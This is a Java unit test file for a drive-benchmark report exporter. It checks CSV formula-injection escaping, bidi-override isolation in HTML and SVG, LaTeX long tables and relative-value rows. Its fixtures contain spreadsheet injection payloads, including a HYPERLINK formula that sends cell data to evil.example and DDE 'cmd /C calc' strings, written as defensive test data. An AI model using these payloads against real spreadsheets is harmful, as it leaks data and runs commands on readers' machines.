package org.drivebench.report.export;

import static org.drivebench.core.testing.Fixtures.metric;
import static org.drivebench.core.testing.Fixtures.result;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.StringReader;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.drivebench.report.chart.AxisSpec;
import org.drivebench.report.chart.ChartModel;
import org.drivebench.report.chart.SeriesSpec;
import org.drivebench.report.chart.SeriesStyle;
import org.drivebench.report.chart.TickStyle;
import org.drivebench.report.chart.image.ChartImages;
import org.drivebench.core.testing.Fixtures;
import org.drivebench.report.NumberPolicy;
import org.drivebench.report.ReportBuilder;
import org.drivebench.report.ReviewTable;
import org.drivebench.model.AxisScale;
import org.drivebench.model.BetterDirection;
import org.drivebench.model.ComparisonReport;
import org.drivebench.model.Metric;
import org.drivebench.model.Normalisation;
import org.junit.jupiter.api.Test;

/** Issue 9, build 6: exports that cannot be turned against their reader, and that break across pages. */
class ExportSafetyTest {
	private static final NumberPolicy NUMBERS = NumberPolicy.standard();

	/** Drives named by someone who wants a spreadsheet to run their formula; one figure is negative. */
	private static ReviewTable hostileTable() {
		Fixtures f = new Fixtures();
		f.run("eq", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", 1, result("t", "+cmd|' /C calc'!A0",
				metric("delta", "-2+3 change", -4.0, "%", BetterDirection.HIGHER)));
		f.run("at", "@SUM(1+1)*cmd|' /C calc'!A0", 2, result("t", "+cmd|' /C calc'!A0",
				metric("delta", "-2+3 change", 5.0, "%", BetterDirection.HIGHER)));
		// the drive's label is trimmed (Drives.label), so the tab that must not start a cell is a metric's
		f.run("tab", "\tTabbed", 3, result("t", "+cmd|' /C calc'!A0", metric("delta", "-2+3 change", 1.0, "%",
				BetterDirection.HIGHER), metric("tab", "\tTabbed figure", 7.0, "%", BetterDirection.NONE)));
		return new ReportBuilder(NUMBERS).build(Fixtures.report("Safe", "eq", "at", "tab"), f.runs());
	}

	@Test
	void csvCellsThatASpreadsheetWouldRunAsFormulasAreText() throws IOException {
		String csv = new CsvExporter(NUMBERS, false).export(hostileTable());
		List<CSVRecord> records;
		try (CSVParser parser = CSVParser.parse(new StringReader(csv), CSVFormat.RFC4180)) {
			records = parser.getRecords();
		}
		List<String> header = records.get(0).toList();
		assertEquals(List.of("Test", "Metric", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
				"'@SUM(1+1)*cmd|' /C calc'!A0", "Tabbed", "Best"), header);
		List<String> row = records.get(1).toList();
		assertEquals("'+cmd|' /C calc'!A0", row.get(0));
		assertEquals("'-2+3 change, % ↑", row.get(1));
		assertEquals("-4.0", row.get(2), "a figure stays a number a spreadsheet reads");
		assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", row.get(5), "the Best column is text too");
		assertEquals("'\tTabbed figure, %", records.get(2).get(1), "a cell starting with a tab is text");
		for (CSVRecord r : records) {
			for (int c = 0; c < r.size(); c++) {
				String cell = r.get(c);
				assertFalse(!cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0, "cell begins a formula: " + cell);
			}
		}
	}

	/**
	 * A drive named with an unterminated RIGHT-TO-LEFT OVERRIDE (U+202E) must not reverse the next drive's
	 * name: in the HTML page every name is isolated ({@code <bdi>}) and closed (PDF), and in an SVG legend
	 * the name is closed where it ends.
	 */
	@Test
	void aNameWithAnOpenOverrideReordersNothingAfterIt() throws Exception {
		String reversing = "Drive A\u202e";
		Fixtures f = new Fixtures();
		f.run("a", reversing, 1, result("t", "Random", metric("iops", "Read", 100, "IOPS", BetterDirection.HIGHER)));
		f.run("b", "Second drive", 2, result("t", "Random", metric("iops", "Read", 200, "IOPS", BetterDirection.HIGHER)));
		ReviewTable table = new ReportBuilder(NUMBERS).build(Fixtures.report("Bidi", "a", "b"), f.runs());
		ChartModel legend = new ChartModel("Read", AxisSpec.fitting("x", AxisScale.LINEAR, TickStyle.NUMBER, 0, 1, true),
				List.of(AxisSpec.fitting("IOPS", AxisScale.LINEAR, TickStyle.NUMBER, 0, 300, true)),
				List.of(new SeriesSpec("a", reversing, SeriesStyle.LINE, new double[] { 0, 1 }, new double[] { 100, 100 }, 0, "#0072b2"),
						new SeriesSpec("b", "Second drive", SeriesStyle.LINE, new double[] { 0, 1 }, new double[] { 200, 200 }, 0, "#e69f00")),
				List.of());
		String html = new HtmlExporter(NUMBERS, List.of(new PageSection(table.rows().get(0).test(), "Random",
				List.of(ChartImage.svg("Read", legend, 400, 300, "c1-"))))).export(table);
		assertTrue(html.contains("<span class=\"drive\">"), html);
		assertTrue(html.contains("<bdi>Drive A\u202e\u202c</bdi>"), "isolated and closed on the drives line and in the table: " + html);
		assertTrue(html.contains("<bdi>Second drive</bdi>"), html);
		assertFalse(html.replace("Drive A\u202e\u202c", "").contains("\u202e"), "no override is left open anywhere: " + html);
		String svg = ChartImages.svg(legend, 400, 300);
		assertTrue(svg.contains(">Drive A\u202e\u202c</text>"), svg);
	}

	@Test
	void aTableLongerThanAPageIsALongtableThatBreaksAndRepeatsItsHeader() {
		Fixtures f = new Fixtures();
		Metric[] metrics = new Metric[45];
		for (int i = 0; i < metrics.length; i++) {
			metrics[i] = metric("m" + i, "Figure " + i, 100 + i, "MB/s", BetterDirection.HIGHER);
		}
		f.run("a", "Drive A", 1, result("t", "Many figures", metrics));
		ComparisonReport report = Fixtures.report("Long review", "a");
		String tex = new LatexExporter(NUMBERS).export(new ReportBuilder(NUMBERS).build(report, f.runs()));
		assertTrue(tex.startsWith("% DriveBench review table. Needs \\usepackage{booktabs} and \\usepackage{longtable}"), tex);
		assertFalse(tex.contains("\\begin{table}"), "a float never breaks across pages");
		assertTrue(tex.contains("\\begin{longtable}{llr}\n\\caption{Long review}\\\\\n\\toprule\n"), tex);
		assertTrue(tex.contains("\\endfirsthead\n\\multicolumn{3}{l}{\\emph{Long review (continued)}}\\\\\n\\toprule\n"
				+ "Test & Metric & Drive A \\\\\n\\midrule\n\\endhead\n"), tex);
		assertTrue(tex.contains("\\endlastfoot\n"), tex);
		assertEquals(45, tex.lines().filter(l -> l.contains(" & Figure ")).count());
		assertTrue(tex.indexOf("\\end{longtable}") < tex.indexOf("\\par\\smallskip"), "footnotes after the table");

		Fixtures small = new Fixtures();
		small.run("a", "Drive A", 1, result("t", "Few", metric("m", "Figure", 1, "MB/s", BetterDirection.HIGHER)));
		String shortTex = new LatexExporter(NUMBERS).export(new ReportBuilder(NUMBERS).build(Fixtures.report("Short", "a"),
				small.runs()));
		assertTrue(shortTex.contains("\\begin{table}[htbp]") && !shortTex.contains("longtable"), shortTex);
	}

	@Test
	void relativeRowsStillSayWhatTheyMeasure() {
		Fixtures f = new Fixtures();
		f.run("a", "Drive A", 1, result("t", "Random 4K", metric("iops", "Read", 1000, "IOPS", BetterDirection.HIGHER),
				metric("lat", "Latency", 2, "ms", BetterDirection.LOWER), metric("rate", "Read", 40, "MB/s", BetterDirection.HIGHER)));
		f.run("b", "Drive B", 2, result("t", "Random 4K", metric("iops", "Read", 1500, "IOPS", BetterDirection.HIGHER),
				metric("lat", "Latency", 1, "ms", BetterDirection.LOWER), metric("rate", "Read", 60, "MB/s", BetterDirection.HIGHER)));
		ComparisonReport report = Fixtures.report("Relative", "a", "b");
		report.setBaselineDriveKey("a");
		report.setNormalisation(Normalisation.RELATIVE_TO_BASELINE);
		String md = new MarkdownExporter(NUMBERS).export(new ReportBuilder(NUMBERS).build(report, f.runs()));
		assertTrue(md.contains("| Read (IOPS), % of Drive A ↑ | 100.0 % | **150.0 %** |"), md);
		assertTrue(md.contains("| Latency (ms), % of Drive A ↓ | 100.0 % | **50.0 %** |"), md);
		assertTrue(md.contains("| Read (MB/s), % of Drive A ↑ | 100.0 % | **150.0 %** |"), md);
	}
}
